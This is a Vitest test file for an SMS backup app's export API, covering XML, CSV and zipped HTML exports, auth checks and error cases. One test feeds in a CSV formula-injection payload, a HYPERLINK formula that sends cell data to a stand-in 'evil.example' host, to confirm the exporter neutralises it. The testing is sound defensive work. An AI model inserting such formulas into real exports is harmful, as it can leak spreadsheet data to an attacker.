import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeBackup } from '../../helpers/sbr-xml.js';
import { Client, ownerClient, startServer, waitForJob } from '../harness.js';

const ALICE = 'Synthetic note for Alice 7f3a';
const BOB = 'Synthetic note for Bob 91c2';

async function setup(): Promise<{ client: Client; anonymous: Client; aliceId: number; dir: string }> {
  const file = writeBackup([
    { address: '+15550000001', date: Date.UTC(2024, 0, 1), body: ALICE, name: 'Alice Example' },
    { address: '+15550000001', date: Date.UTC(2024, 0, 2), body: `${ALICE} again`, type: 2 },
    { address: '+15550000002', date: Date.UTC(2024, 0, 3), body: BOB, name: 'Bob Example' },
  ]);
  const server = await startServer({ files: [file] });
  const client = await ownerClient(server);
  const list = await client.json<{ items: { id: number; title: string }[] }>('/api/conversations');
  const alice = list.items.find((c) => c.title.includes('Alice'));
  if (alice === undefined) throw new Error(`no Alice conversation in ${JSON.stringify(list.items)}`);
  return { client, anonymous: new Client(server.url), aliceId: alice.id, dir: server.dir };
}

async function exportOne(client: Client, body: object): Promise<Response> {
  const res = await client.request('POST', '/api/exports', { json: body });
  expect(res.status, await res.clone().text()).toBe(202);
  const { jobId } = (await res.json()) as { jobId: number };
  const job = await waitForJob(client, jobId);
  expect(job.error).toBeNull();
  expect(job.status).toBe('done');
  return client.get(`/api/exports/${jobId}/download`);
}

describe('exports', () => {
  it('exports one conversation as SBR XML and as CSV, each downloadable as an attachment', async () => {
    const { client, aliceId } = await setup();

    const sbr = await exportOne(client, { format: 'sbr', conversationId: aliceId, kinds: ['sms', 'mms'] });
    expect(sbr.status).toBe(200);
    expect(sbr.headers.get('content-disposition')).toMatch(/^attachment; filename="[^"/\\]+\.xml"/);
    expect(sbr.headers.get('x-content-type-options')).toBe('nosniff');
    const xml = await sbr.text();
    expect(xml).toContain('<smses');
    expect(xml).toContain(ALICE);
    expect(xml).not.toContain(BOB);

    const csv = await exportOne(client, { format: 'csv', conversationId: aliceId, kinds: ['sms'] });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="[^"]+\.csv"/);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const text = await csv.text();
    expect(text.split('\n').filter((l) => l.includes(ALICE))).toHaveLength(2);
    expect(text).not.toContain(BOB);
  });

  it("neutralises formula-like CSV cells by default and keeps them with csvRaw", async () => {
    const attack = '=HYPERLINK("https://evil.example/?"&A1,"open me")';
    const server = await startServer({ files: [writeBackup([{ address: '+15550000009', date: Date.UTC(2024, 0, 4), body: attack, name: '@Mallory' }])] });
    const client = await ownerClient(server);
    const safe = await (await exportOne(client, { format: 'csv', kinds: ['sms'] })).text();
    expect(safe).toContain(`"'${attack.replaceAll('"', '""')}"`);
    expect(safe).toContain("'@Mallory (+15550000009)");
    const raw = await (await exportOne(client, { format: 'csv', kinds: ['sms'], csvRaw: true })).text();
    expect(raw).toContain(`"${attack.replaceAll('"', '""')}"`);
    expect(raw).not.toContain("'@Mallory");
  });

  it('zips an export that writes several files, and answers 410 once it was deleted from the server', async () => {
    const { client, aliceId, dir } = await setup();
    const res = await exportOne(client, { format: 'html', conversationId: aliceId });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/zip');
    const zip = Buffer.from(await res.arrayBuffer());
    expect(zip.subarray(0, 4).toString('latin1')).toBe('PK\u0003\u0004');
    // What exports.keep does after a week.
    const exports = path.join(dir, 'exports');
    const [kept] = fs.readdirSync(exports);
    expect(kept).toMatch(/^\d+\.zip$/);
    fs.rmSync(path.join(exports, kept ?? ''));
    const gone = await client.get(`/api/exports/${(kept ?? '').replace('.zip', '')}/download`);
    expect(gone.status).toBe(410);
    expect(await gone.text()).toMatch(/was deleted from the server .*exports\.keep.*export again/);
  });

  it('refuses anonymous requests, bad formats, and downloads of jobs that are not finished exports', async () => {
    const { client, anonymous, aliceId } = await setup();
    expect((await anonymous.request('POST', '/api/exports', { json: { format: 'csv' } })).status).toBe(401);
    expect((await client.request('POST', '/api/exports', { json: { format: 'docx' } })).status).toBe(400);
    expect((await client.request('POST', '/api/exports', { json: { format: 'csv', outDir: '/tmp' } })).status).toBe(400);

    const verify = (await (await client.request('POST', '/api/verify')).json()) as { jobId: number };
    await waitForJob(client, verify.jobId);
    expect((await client.get(`/api/exports/${verify.jobId}/download`)).status).toBe(404);
    expect((await client.get('/api/exports/999999/download')).status).toBe(404);

    const res = await client.request('POST', '/api/exports', { json: { format: 'csv', conversationId: aliceId } });
    const { jobId } = (await res.json()) as { jobId: number };
    expect((await anonymous.get(`/api/exports/${jobId}/download`)).status).toBe(401);
    await waitForJob(client, jobId);
    expect((await anonymous.get(`/api/exports/${jobId}/download`)).status).toBe(401);
  });

  it('fails the job with the selection error when the conversation does not exist', async () => {
    const { client } = await setup();
    const res = await client.request('POST', '/api/exports', { json: { format: 'csv', conversationId: 424242 } });
    const { jobId } = (await res.json()) as { jobId: number };
    const job = await waitForJob(client, jobId);
    expect(job.status).toBe('failed');
    expect(job.error).toMatch(/nothing to export/);
    expect((await client.get(`/api/exports/${jobId}/download`)).status).toBe(409);
  });
});
